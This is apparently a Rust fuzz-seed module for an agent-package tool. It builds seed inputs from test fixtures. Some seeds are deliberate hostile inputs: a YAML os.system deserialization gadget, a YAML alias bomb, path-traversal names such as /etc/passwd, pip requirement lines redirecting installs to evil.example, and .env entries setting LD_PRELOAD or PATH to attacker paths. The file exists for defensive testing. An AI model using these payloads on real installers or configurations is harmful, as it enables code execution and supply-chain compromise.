//! Seed inputs for each fuzz target, built from the test fixtures so they
//! cannot drift from what the tests exercise: the valid agent and every
//! hostile archive, the manifests they carry, and the requirement lines and
//! build tables that past findings were made of.

use super::Target;
use crate::apkg::{AGENT_YAML, PAK_AGENT_YAML};
use crate::{Apkg, hostile_cases};

/// `(file name, bytes)` for each seed of `target`.
pub(super) fn of(target: Target) -> Vec<(String, Vec<u8>)> {
    match target {
        Target::Manifest => texts("seed", "yaml", &MANIFESTS),
        Target::EntryName => texts("seed", "", &ENTRY_NAMES),
        Target::Requirements => texts("seed", "txt", &REQUIREMENTS),
        Target::BuildSystem => texts("seed", "toml", &BUILD_SYSTEMS),
        Target::DotEnv => texts("seed", "env", &DOTENVS),
        Target::Deploy => texts("seed", "json", &DEPLOYS),
        Target::Lock => texts("seed", "toml", &LOCKS),
        // The extractor and the whole component take the same inputs.
        Target::Archive | Target::Component => archives(),
        Target::Registry => registry(),
    }
}

/// A selector byte (0: a bundle manifest, 1: a reference, 2: a challenge)
/// and what that reader reads.
fn registry() -> Vec<(String, Vec<u8>)> {
    let hex = |c: char| c.to_string().repeat(64);
    let members: Vec<(String, u64, String)> = [
        ("agent.apkg", 'a'),
        ("pylock.toml", 'b'),
        ("sbom.cdx.json", 'c'),
        ("wheels/packaging-26.4-py3-none-any.whl", 'd'),
        ("editable/agent-1.0-0.editable-py3-none-any.whl", 'e'),
        ("bundle.minisig", '9'),
    ]
    .into_iter()
    .map(|(member, digit)| (member.to_owned(), 100, hex(digit)))
    .collect();
    let mut manifest = vec![0];
    manifest.extend(par::fuzzing::write_bundle_manifest(&members, &hex('f')));
    let mut seeds = vec![("manifest.json".to_owned(), manifest)];
    let texts = [
        "\u{1}127.0.0.1:5000/agents/web:1.0".to_owned(),
        format!("\u{1}oci://ghcr.io/acme/agents/web@sha256:{}", hex('0')),
        "\u{2}Bearer realm=\"https://auth.example/token\",service=\"registry\",scope=\"repository:a:pull\"".to_owned(),
        "\u{2}Basic realm=\"Registry Realm\"".to_owned(),
    ];
    seeds.extend(
        texts
            .iter()
            .enumerate()
            .map(|(i, text)| (format!("seed-{i}"), text.as_bytes().to_vec())),
    );
    seeds
}

fn texts(prefix: &str, extension: &str, items: &[&str]) -> Vec<(String, Vec<u8>)> {
    let dot = if extension.is_empty() { "" } else { "." };
    items
        .iter()
        .enumerate()
        .map(|(i, text)| (format!("{prefix}-{i}{dot}{extension}"), text.as_bytes().to_vec()))
        .collect()
}

fn archives() -> Vec<(String, Vec<u8>)> {
    let mut zip64 = crate::zip_bytes::ZipBytes(crate::cases::layered().to_bytes());
    zip64.with_zip64(0);
    let mut seeds = vec![
        ("valid-agent.apkg".to_owned(), Apkg::valid_agent().to_bytes()),
        ("pak-agent.apkg".to_owned(), Apkg::pak_agent().to_bytes()),
        ("streamed-agent.apkg".to_owned(), crate::cases::streamed()),
        ("zip64-records.apkg".to_owned(), zip64.0),
        (
            "bundle.parb".to_owned(),
            Apkg::new()
                .file("agent.apkg", Apkg::valid_agent().to_bytes())
                .file("pylock.toml", "lock-version = \"1.0\"\n")
                .dir("wheels/")
                .file("wheels/par_probe-1.0-py3-none-any.whl", "PK")
                .dir("editable/")
                .file("editable/agent-1.0-0.editable-py3-none-any.whl", "PK")
                .to_bytes(),
        ),
    ];
    for (i, case) in hostile_cases().iter().enumerate() {
        seeds.push((format!("hostile-{i:02}.apkg"), case.apkg.to_bytes()));
    }
    seeds
}

const MANIFESTS: [&str; 6] = [
    AGENT_YAML,
    PAK_AGENT_YAML,
    include_str!("../../../examples/vivid-commenter/agent.yaml"),
    "name: a\nversion: 1.10\nruntime:\n  python: \">=3.8\"\n",
    "name: a\nversion: '1'\nx: !!python/object:os.system ls\n",
    "name: a\nversion: '1'\nl0: &l0 [x, x]\nl1: [*l0, *l0]\n",
];

const ENTRY_NAMES: [&str; 6] = [
    "core/langchain_util.py",
    "../x",
    "/etc/passwd",
    "a\\b",
    "C:/x",
    "ui/static/",
];

const REQUIREMENTS: [&str; 10] = [
    "# no external dependencies\n",
    "fastapi==0.110.0\npydantic[email]>=2,<3 \\\n  ; python_version >= \"3.8\"\n",
    "-e ./vendor/editable\n./vendor/helper\nhttpx==0.27.0 --hash=sha256:abc123\n",
    "--index-url https://evil.example/simple\nevil @ https://evil.example/e.whl\n",
    "-r other.txt\n-c constraints.txt\n../outside\n/etc/passwd\n--global-option=--evil\n",
    // Past findings: an allowed option carrying another, a scheme before
    // `@`, a path in a version, a quoted option.
    "--pre -pi://\n--prefer-binary --index-url=http://127.0.0.1:9/simple\n--pre -f x\n",
    "-e fbzr+ile:.@./x\nx===../../..\nx ; extra == '-i'\n",
    "requests -f wheels\n--only-binary :all: --index-url https://evil.example\n--pre --find-links ./w\n",
    "-e ./vendor --extra-index-url=https://evil.example\n--no-binary=a,b\npkg @ https://x/${PIP_INDEX_URL}\n",
    "sneaky @ /home/someone/project\nsneaky @ ../../outside ; python_version > '3'\nok @ ./vendor/x\n-e file:../x\ngit+file:///r\n-e sneaky@/home/x\n-e fbzr+ile:.@./x\nx[a]@./y\n",
];

const BUILD_SYSTEMS: [&str; 7] = [
    "[project]\nname = \"a\"\nversion = \"1\"\ndependencies = [\"fastapi>=0.100\", \"uvicorn[standard]; python_version >= '3.9'\"]\n",
    "[project]\ndependencies = [\"a \\\\\", \"b\\n-i http://x\", \"c @ https://x/c.whl\", \"d # e\"]\n",
    "[build-system]\nrequires = [\"setuptools>=64\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n",
    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\", \".\"]\n",
    "[project]\nname = \"a\"\nversion = \"1\"\n[tool.black]\nline-length = 100\n",
    "[build-system]\nrequires = [\"evil @ https://evil.example/e.whl\", \"-r /etc/passwd\", \"../x\"]\n",
    "build-system = { requires = [\"a\"], backend-path = [\"../..\"] }\n",
];

/// `.env` files: what PAK writes, every quoting form, and each refusal.
const DEPLOYS: [&str; 4] = [
    r#"{"expose": ["rest", "a2a", "ui"], "ports": {"rest": 8080, "a2a": 50051, "ui": 3000}, "multiplex": true, "environment": {"A2A_PORT": "${A2A_PORT:-50051}"}}"#,
    r#"{"expose": [], "ports": {}, "multiplex": true, "environment": {}}"#,
    r#"{"ports": {"rest": 65536}, "environment": {"LD_PRELOAD": "x", "N": 1.5e3, "B": false}}"#,
    r#"{"expose": ["a", "a"], "multiplex": "yes", "environment": {"A": "\u0000"}}"#,
];

const DOTENVS: [&str; 8] = [
    "# Copy to .env and fill in\nOPENAI_API_KEY=sk-placeholder\nANTHROPIC_API_KEY=\nLOG_LEVEL=info\n",
    "export MODEL = \"gpt-4o\"  # the default\nNAME='single ${HOME}'\nESC=\"a\\nb \\\"q\\\" \\$X\"\r\n",
    "SPACED = a b c   # comment\nHASH=a#b\nEMPTY=\nA=1\nA=2\n",
    "LD_PRELOAD=/tmp/evil.so\n",
    "PYTHONPATH=/evil\nPATH=/evil\n",
    "LISTEN_FDS=9\nAGENT_PACKAGE_PATH=/\n",
    "A=\"unterminated\nB='also\nC=\"x\" trailing\n",
    "no equals here\n\u{0}=\n=value\n",
];

/// A lock par writes, uv's resolution, and what a lock may not hold.
const LOCKS: [&str; 6] = [
    "# What par installed into this venv (PEP 751).\nlock-version = \"1.0\"\ncreated-by = \"par\"\nrequires-python = \"==3.11.7\"\nenvironments = [\"python_full_version == '3.11.7' and sys_platform == 'linux'\"]\n\n[[packages]]\nname = \"packaging\"\nversion = \"26.4\"\n\n[[packages.wheels]]\nurl = \"file:///w/packaging-26.4-py3-none-any.whl\"\n\n[packages.wheels.hashes]\nsha256 = \"81383611a09c1bc0b08b76e0fd5829d7c6824c65b27a6aee339da133f4233ea2\"\n\n[[packages]]\nname = \"par-helper\"\n\n[packages.directory]\npath = \"vendor/helper\"\neditable = false\n\n[[packages]]\nname = \"test-agent\"\n\n[packages.directory]\npath = \".\"\neditable = true\n\n[tool.par]\ninstaller = \"uv\"\n",
    "lock-version = \"1.0\"\ncreated-by = \"uv\"\nrequires-python = \">=3.11.7\"\n\n[[packages]]\nname = \"foo\"\ndirectory = { path = \"libs/foo\" }\n\n[[packages]]\nname = \"requests\"\nversion = \"2.32.3\"\nindex = \"https://pypi.org/simple\"\nsdist = { url = \"https://files.pythonhosted.org/r/requests-2.32.3.tar.gz\", hashes = { sha256 = \"55365417734eb18255590a9ff9eb97e9e1da868d4ccd6402399eaf68af20a760\" } }\nwheels = [{ url = \"https://files.pythonhosted.org/r/requests-2.32.3-py3-none-any.whl\", hashes = { sha256 = \"70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6\" } }]\n",
    "lock-version = \"1.0\"\n[[packages]]\nname = \"x\"\nvcs = { type = \"git\", url = \"https://example.com/x.git\", commit-id = \"0123456789abcdef0123456789abcdef01234567\" }\n[[packages]]\nname = \"y\"\narchive = { path = \"dist/y-1.0-py3-none-any.whl\", hashes = { sha256 = \"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\" } }\n",
    "lock-version = \"1.0\"\n[[packages]]\nname = \"a\"\nversion = \"1\"\nsdist = { url = \"https://x/a-1.tar.gz\", hashes = { md5 = \"00\" } }\n",
    "lock-version = \"1.0\"\n[[packages]]\nname = \"A_b\"\ndirectory = { path = \"../x\" }\n[[packages]]\nname = \"a.B\"\nmarker = \"os_name == 'nt'\"\ndirectory = { path = \"/abs\" }\n",
    "lock-version = \"2.0\"\npackages = 3\n",
];
